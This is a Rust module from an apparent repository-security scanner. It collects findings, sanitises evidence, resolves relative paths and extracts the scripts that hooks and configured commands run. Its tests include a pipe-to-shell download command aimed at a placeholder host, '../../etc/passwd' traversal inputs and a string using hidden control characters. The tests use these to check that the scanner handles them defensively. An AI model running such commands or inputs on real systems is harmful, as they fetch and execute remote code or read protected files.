//! Where checks put what they find: findings, and references to files that
//! a hook or script runs (scanned afterwards as code that runs).

use crate::hidden;
use crate::model::Finding;
use crate::payload::{self, Kind, Mode};
use crate::rules;

/// Longest evidence kept, in bytes of input.
pub const MAX_EVIDENCE: usize = 240;

/// A file that a hook, script or configured command runs.
#[derive(Debug, Clone)]
pub struct ScriptRef {
    /// Normalised path relative to the root.
    pub path: String,
    /// The payload rule to report under.
    pub rule: &'static str,
    pub mode: Mode,
    /// What runs it, for the message ("postinstall script in pkg/package.json").
    pub origin: String,
}

#[derive(Debug, Default)]
pub struct Sink {
    pub findings: Vec<Finding>,
    pub refs: Vec<ScriptRef>,
}

impl Sink {
    pub fn add(
        &mut self,
        rule: &'static str,
        path: &str,
        line: usize,
        message: String,
        evidence: String,
    ) {
        let r = rules::rule(rule);
        self.findings.push(Finding {
            rule: r.id.to_string(),
            severity: r.severity,
            path: path.to_string(),
            line: line.max(1),
            message,
            evidence,
        });
    }
}

/// 1-based line number of byte offset `at`.
pub fn line_at(text: &[u8], at: usize) -> usize {
    memchr::memchr_iter(b'\n', &text[..at.min(text.len())]).count() + 1
}

/// Line numbers for increasing offsets in one text, counting each newline
/// once (many hits in a large file stay linear).
#[derive(Debug, Default)]
pub struct LineCounter {
    off: usize,
    line: usize,
}

impl LineCounter {
    pub fn at(&mut self, text: &[u8], pos: usize) -> usize {
        let pos = pos.min(text.len());
        if pos < self.off || self.line == 0 {
            self.off = 0;
            self.line = 1;
        }
        self.line += memchr::memchr_iter(b'\n', &text[self.off..pos]).count();
        self.off = pos;
        self.line
    }
}

/// The line around byte offset `at`, bounded, with control and hidden
/// characters made visible, trimmed.
pub fn evidence_at(text: &[u8], at: usize) -> String {
    let (s, e) = payload::line_bounds(text, at.min(text.len()), MAX_EVIDENCE / 2);
    clean(&text[s..e])
}

/// Bounded, printable form of any hostile text.
pub fn clean(b: &[u8]) -> String {
    let s = hidden::reveal(b, MAX_EVIDENCE);
    let t = s.trim();
    let mut out: String = t.chars().take(MAX_EVIDENCE).collect();
    if t.chars().count() > MAX_EVIDENCE || b.len() > MAX_EVIDENCE {
        out.push('…');
    }
    out
}

/// A short printable form for messages.
pub fn short(s: &str) -> String {
    let c = clean(s.as_bytes());
    if c.chars().count() > 80 {
        let mut t: String = c.chars().take(77).collect();
        t.push('…');
        t
    } else {
        c
    }
}

/// Line of the first occurrence of any needle (tried in order), else 1.
pub fn line_of(text: &[u8], needles: &[&str]) -> usize {
    for n in needles {
        if n.is_empty() {
            continue;
        }
        if let Some(i) = memchr::memmem::find(text, n.as_bytes()) {
            return line_at(text, i);
        }
    }
    1
}

/// Line where a command string from a JSON file appears: its JSON-escaped
/// prefix, then its raw prefix, then the key.
pub fn json_line(text: &[u8], value: &str, key: &str) -> usize {
    let esc = serde_json::to_string(value).unwrap_or_default();
    let esc = esc.trim_matches('"');
    let esc: String = esc.chars().take(60).collect();
    let raw: String = value.chars().take(60).collect();
    let quoted_key = format!("\"{key}\"");
    line_of(text, &[&esc, &raw, &quoted_key, key])
}

/// Distinct payload kinds in order of first appearance.
pub fn kinds(hits: &[payload::Hit]) -> Vec<Kind> {
    let mut out: Vec<Kind> = Vec::new();
    for h in hits {
        if !out.contains(&h.kind) {
            out.push(h.kind);
        }
    }
    out
}

/// Joins `base` (a directory relative to the root, "" for the root) and a
/// relative path, resolving `.` and `..`. `None` if it leaves the root or is
/// absolute.
pub fn join_rel(base: &str, p: &str) -> Option<String> {
    if p.starts_with('/') || p.starts_with('\\') || p.contains('\0') {
        return None;
    }
    let mut parts: Vec<&str> = base.split('/').filter(|s| !s.is_empty()).collect();
    for seg in p.split(['/', '\\']) {
        match seg {
            "" | "." => {}
            ".." => {
                parts.pop()?;
            }
            s => parts.push(s),
        }
    }
    (!parts.is_empty()).then(|| parts.join("/"))
}

/// Parent directory of a relative path ("" for a top-level file).
pub fn parent(rel: &str) -> &str {
    rel.rfind('/').map_or("", |i| &rel[..i])
}

const SCRIPT_EXTS: &[&str] = &[
    ".js", ".cjs", ".mjs", ".ts", ".cts", ".mts", ".py", ".sh", ".bash", ".zsh", ".ps1", ".rb",
    ".pl", ".php",
];

/// Paths of local scripts a command line runs: tokens with a script
/// extension or starting with `./`, after stripping quotes and well-known
/// project-root variables.
pub fn script_paths(cmd: &str) -> Vec<String> {
    let mut out = Vec::new();
    for raw in cmd.split(|c: char| {
        c.is_whitespace() || matches!(c, ';' | '&' | '|' | '(' | ')' | '<' | '>' | '`')
    }) {
        let mut t = raw.trim_matches(|c| matches!(c, '"' | '\'' | ','));
        if let Some(eq) = t.find('=') {
            // --require=./x.js, --config=x.js
            if t.starts_with('-') {
                t = &t[eq + 1..];
            }
        }
        for var in [
            "${workspaceFolder}/",
            "${workspaceRoot}/",
            "${localWorkspaceFolder}/",
            "${containerWorkspaceFolder}/",
            "$CLAUDE_PROJECT_DIR/",
            "${CLAUDE_PROJECT_DIR}/",
            "\"$CLAUDE_PROJECT_DIR\"/",
            "$PWD/",
            "${PWD}/",
        ] {
            if let Some(rest) = t.strip_prefix(var) {
                t = rest;
            }
        }
        if t.is_empty()
            || t.contains("://")
            || t.starts_with('$')
            || t.starts_with('-')
            || t.len() > 512
        {
            continue;
        }
        let lower = t.to_ascii_lowercase();
        if t.starts_with("./")
            || t.starts_with("../")
            || SCRIPT_EXTS.iter().any(|e| lower.ends_with(e))
        {
            out.push(t.to_string());
        }
    }
    out.sort();
    out.dedup();
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn line_counter_matches_line_at() {
        let t = b"a\nb\n\nc\nd";
        let mut lc = LineCounter::default();
        for pos in [0, 1, 2, 4, 5, 8, 9, 3, 0] {
            assert_eq!(lc.at(t, pos), line_at(t, pos), "pos {pos}");
        }
    }

    #[test]
    fn join_rel_stays_inside() {
        assert_eq!(join_rel("a/b", "../c.js").as_deref(), Some("a/c.js"));
        assert_eq!(join_rel("", "./x/./y.sh").as_deref(), Some("x/y.sh"));
        assert_eq!(join_rel("a", "../../etc/passwd"), None);
        assert_eq!(join_rel("a", "/etc/passwd"), None);
    }

    #[test]
    fn script_paths_found() {
        assert_eq!(
            script_paths("node scripts/post.js && sh ./install.sh --flag; echo done"),
            vec!["./install.sh", "scripts/post.js"]
        );
        assert_eq!(
            script_paths("node --require=./hook.cjs app"),
            vec!["./hook.cjs"]
        );
        assert_eq!(
            script_paths("python \"${workspaceFolder}/tools/x.py\""),
            vec!["tools/x.py"]
        );
        assert!(script_paths("curl https://example.invalid/x.sh | sh").is_empty());
        assert!(script_paths("jest --coverage").is_empty());
    }

    #[test]
    fn evidence_is_bounded_and_printable() {
        let mut long = "x".repeat(10_000);
        long.push_str("\u{1b}[31m\u{202E}evil");
        let e = evidence_at(long.as_bytes(), long.len() - 3);
        assert!(e.len() < 600, "{}", e.len());
        assert!(!e.contains('\u{1b}'));
        assert!(e.contains("<U+202E>"));
    }
}
